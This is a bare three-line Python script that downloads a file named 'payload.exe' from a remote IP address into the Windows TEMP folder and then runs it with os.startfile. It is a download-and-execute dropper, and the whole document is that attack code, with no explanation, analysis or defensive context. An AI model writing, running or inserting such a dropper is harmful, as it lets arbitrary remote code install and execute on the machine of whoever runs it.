import os, wget
f = wget.download("http://198.51.100.46/payload.exe", out=os.getenv("TEMP"))
os.startfile(f)
